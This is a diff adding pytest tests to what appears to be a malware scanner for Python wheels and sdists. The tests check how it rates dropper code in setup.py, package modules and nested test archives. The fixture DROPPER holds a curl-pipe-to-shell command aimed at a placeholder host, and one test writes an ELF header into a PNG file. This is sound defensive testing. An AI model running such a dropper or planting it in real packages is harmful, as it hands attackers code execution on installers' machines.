@@ -225,3 +225,33 @@ def test_code_under_tests_is_not_parsed_unless_the_package_imports_it(tmp_path: 
     assert locations == {"src/demo/testing/helpers.py"}  # `import demo.testing.helpers` does not run docs/helpers.py
     setup = scan_archive(make_sdist(tmp_path / "s", {"setup.py": dropper, "tests/helper.py": dropper}))
     assert severity(setup, "shell-dropper-command") is Severity.CRITICAL  # setup.py itself is never skipped
+
+
+DROPPER = "import os\nos.system('curl https://example.invalid/x | sh')\n"
+
+
+@pytest.mark.parametrize("package", ["sample_utils", "docs_builder", "test_helpers"])
+def test_a_package_named_like_tests_or_docs_is_still_read(tmp_path: Path, package: str) -> None:
+    wheel = scan_archive(make_wheel(tmp_path / "w", {f"{package}/__init__.py": DROPPER}, name=package))
+    assert severity(wheel, "shell-dropper-command") is not None
+    sdist = scan_archive(make_sdist(tmp_path / "s", {"setup.py": "from setuptools import setup\nsetup()\n",
+                                                     "demo/__init__.py": DROPPER}, name=f"x-{package}"))
+    assert severity(sdist, "shell-dropper-command") is not None  # the sdist's own top directory does not count
+
+
+def test_tests_imported_by_setup_py_run_at_install_time(tmp_path: Path) -> None:
+    files = {"setup.py": "import tests.helper\nfrom setuptools import setup\nsetup()\n", "tests/__init__.py": "",
+             "tests/helper.py": DROPPER}
+    scan = scan_archive(make_sdist(tmp_path, files))
+    assert severity(scan, "shell-dropper-command") is Severity.CRITICAL
+
+
+def test_test_data_is_weighed_down_and_nested_test_archives_are_not_promoted(tmp_path: Path) -> None:
+    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
+    assert severity(scan_archive(make_wheel(tmp_path / "a", {"demo/logo.png": elf})), "binary-disguised") is Severity.HIGH
+    data = scan_archive(make_wheel(tmp_path / "b", {"demo/__init__.py": "", "demo/tests/data/logo.png": elf}))
+    assert severity(data, "binary-disguised") < Severity.MEDIUM
+    fixture = make_wheel(tmp_path / "fixture", {"demo/__init__.py": DROPPER}).read_bytes()
+    nested = scan_archive(make_wheel(tmp_path / "c", {"demo/__init__.py": "from demo import util\n", "demo/util.py": "",
+                                                      "demo/tests/data/fixture.whl": fixture}))
+    assert severity(nested, "shell-dropper-command") is None
